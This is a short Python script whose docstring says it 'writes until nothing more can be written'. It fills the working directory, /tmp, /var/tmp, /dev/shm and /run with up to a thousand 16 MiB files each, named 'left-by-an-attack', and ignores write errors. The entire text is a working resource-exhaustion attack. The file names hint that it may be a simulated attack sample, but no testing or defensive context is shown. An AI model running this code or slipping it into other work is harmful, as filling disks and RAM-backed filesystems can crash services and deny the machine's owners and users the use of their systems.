"""Writes until nothing more can be written."""

for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run"):
    try:
        for number in range(1000):
            with open(f"{folder}/left-by-an-attack-{number}", "wb") as file:
                file.write(bytes(2**24))
    except OSError:
        pass
